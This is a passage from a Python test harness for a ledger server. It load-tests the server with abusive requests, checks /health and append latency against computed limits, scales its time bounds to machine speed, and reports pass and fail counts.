    began = time.monotonic()
    # Measured from when every connection has had its first answer: the opening burst (500 requests at once, a
    # third of them 1 MiB bodies or 64-entitlement purchases) queues /health behind all of it for seconds on two
    # cores, which says how long that burst takes to serve, not whether the server keeps serving under load.
    time.sleep(min(2.0, seconds / 5))
    answered.wait(timeout=max(0.0, burst - (time.monotonic() - began)))
    measured_from = time.monotonic() - began
    ms = [threading.Thread(target=measure_health, daemon=True), threading.Thread(target=measure_appends, daemon=True)]
    for t in ms:
        t.start()
    time.sleep(seconds)
    halt.set()
    stop.set()
    worker.join(timeout=bound(LOAD_REQUEST_TIMEOUT) + 15)
    for t in ms:
        t.join(timeout=REQUEST_TIMEOUT + 2)
    if worker.is_alive():
        worker.kill(); worker.join(5)
    try:
        result = out.get(timeout=2)
    except Exception:
        result = {"threads": "?", "counts": {}, "heavy_median": 0.0, "heavy": 0}
    counts = result["counts"]
    h99, h50 = percentile(health, 0.99), percentile(health, 0.5)
    ok_appends = [r.elapsed for r in appends if r.status == 201]
    a50 = statistics.median(r.elapsed for r in appends) if appends else float("nan")
    amax = max((r.elapsed for r in appends), default=float("nan"))
    heavy = result["heavy_median"]
    limit = max(LOAD_APPEND_FACTOR * base_median, bound(LOAD_APPEND_FLOOR), LOAD_APPEND_VS_HEAVY * heavy)
    health_limit = max(bound(LOAD_HEALTH_P99_MAX), LOAD_HEALTH_VS_HEAVY * heavy)
    say(f"load: measured from {measured_from:.1f}s into the load (every connection answered once"
        f"{'' if answered.is_set() else ': not all were, measured anyway'})")
    say(f"load: {result['threads']} connections for {measured_from + seconds:.0f}s, {sum(counts.values())} hostile requests "
        f"{dict(sorted(counts.items(), key=lambda kv: -kv[1]))}; {result['heavy']} stored 64-entitlement purchases, "
        f"median {heavy * 1000:.0f} ms")
    say(f"load: /health p50 {h50 * 1000:.0f} ms, p99 {h99 * 1000:.0f} ms over {len(health)} requests "
        f"(before the load: p50 {percentile(health_base, 0.5) * 1000:.0f} ms); ordinary appends median "
        f"{base_median * 1000:.0f} ms before, {a50 * 1000:.0f} ms during (max {amax * 1000:.0f} ms) over {len(appends)} "
        f"({len(ok_appends)} stored; "
        f"limit {limit * 1000:.0f} ms; /health p99 limit {health_limit * 1000:.0f} ms)")
    if slow_health:
        say(f"load: /health slower than 1 s (seconds into the load, seconds taken): {slow_health[:10]}")
    problems = []
    if not server.alive():
        problems.append("the server died under load")
    if not health:
        problems.append("no /health answer was measured")
    elif h99 > health_limit:
        problems.append(f"/health p99 {h99:.2f}s > {health_limit:.2f}s")
    if not appends:
        problems.append("no ordinary append was measured")
    else:
        failed = [r.brief()[:120] for r in appends if r.status != 201]
        if failed:
            problems.append(f"{len(failed)} of {len(appends)} ordinary appends failed, e.g. {failed[:3]}")
        if a50 > limit:
            problems.append(f"ordinary appends' median {a50:.2f}s > {limit:.2f}s")
    if LOAD_FAIL_ON_HOSTILE_500 and counts.get("500"):
        problems.append(f"{counts['500']} hostile requests answered 500 internal")
    if problems:
        raise Check("; ".join(problems))


# ----------------------------------------------------------------------------------------------- run
def measure_pace():
    """Sets STRETCH (and the suite's deadline) from this machine's ordinary append against the reference one's."""
    global STRETCH, DEADLINE
    rs = [ordinary_append("pace", i) for i in range(PACE_APPENDS)]
    ok = [r.elapsed for r in rs if r.status == 201]
    if len(ok) < PACE_APPENDS:  # the cases will say what is wrong; keep the reference bounds
        say(f"pace: {PACE_APPENDS - len(ok)} of {PACE_APPENDS} appends failed, e.g. {[r.brief() for r in rs if r.status != 201][:2]}")
        return
    median = statistics.median(ok)
    STRETCH = min(MAX_STRETCH, max(1.0, median / REFERENCE_APPEND_SECONDS))
    DEADLINE = T0 + bound(SUITE_SECONDS)
    arm_watchdog(DEADLINE - time.monotonic())
    say(f"pace: an ordinary append takes {median * 1000:.1f} ms (median of {PACE_APPENDS}; reference "
        f"{REFERENCE_APPEND_SECONDS * 1000:.0f} ms): time bounds x{STRETCH:.2f}, the suite within {bound(SUITE_SECONDS):.0f}s")


def finish(abort=False):
    server.stop()
    shutil.rmtree(APPLE_CA, ignore_errors=True)
    shutil.rmtree(STORE_KEYS, ignore_errors=True)
    failed = [n for n, ok, _ in RESULTS if not ok]
    passed = sum(1 for _, ok, why in RESULTS if ok and not why)
    skipped = sum(1 for _, ok, why in RESULTS if ok and why)
    say(f"{passed} passed, {len(failed)} failed, {skipped} skipped in {time.monotonic() - T0:.0f}s"
        + (" (aborted)" if abort else ""))
    if failed or abort:
        say("server log (last lines):\n" + server.tail(20))
    try:
        os.unlink(server.log.name)
    except OSError:
        pass
    sys.exit(1 if failed or abort else 0)


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, lambda *_: finish(abort=True))
    say(f"serving {args.bin} on 127.0.0.1:{PORT} ({'with' if HAS_STATEMENT_TIMEOUT else 'without'} --statement-timeout)")
    if not server.start():
        say(f"FAILED start: the server did not answer /health — log: {server.tail()}")
        finish(abort=True)
    measure_pace()
    only = os.environ.get("SUBLEDGER_HOSTILE_ONLY")  # a substring of case names, to iterate on a few
    # Order: cheap cases first, the CSV case after the many-windows one (its export then streams many pages),
    # the load last.
    for name, fn in CASES:
        if only and only not in name:
            continue
        run_case(name, fn)
    finish()
